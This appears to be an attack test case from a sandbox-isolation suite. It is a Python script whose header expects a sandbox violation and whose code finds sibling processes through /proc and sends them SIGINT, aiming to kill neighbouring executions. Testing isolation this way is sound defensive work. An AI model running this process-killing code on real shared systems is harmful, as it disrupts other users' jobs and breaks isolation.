# /// attack
# category = "cross-execution"
# kind = "stdio"
# success = "victim_dead"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Interrupts every process near its own number, where neighbours of the same user are found."
# ///

import os
import signal

own = os.getpid()
for pid in range(max(3, own - 30), own + 30):
    if pid in (own, os.getppid(), int("{PARENT_PID}")):
        continue
    try:
        with open(f"/proc/{pid}/stat") as file:
            parent = int(file.read().rsplit(")", 1)[1].split()[1])
    except OSError:
        parent = os.getppid()
    if parent == os.getppid():
        try:
            os.kill(pid, signal.SIGINT)
        except OSError as error:
            print("blocked", error)
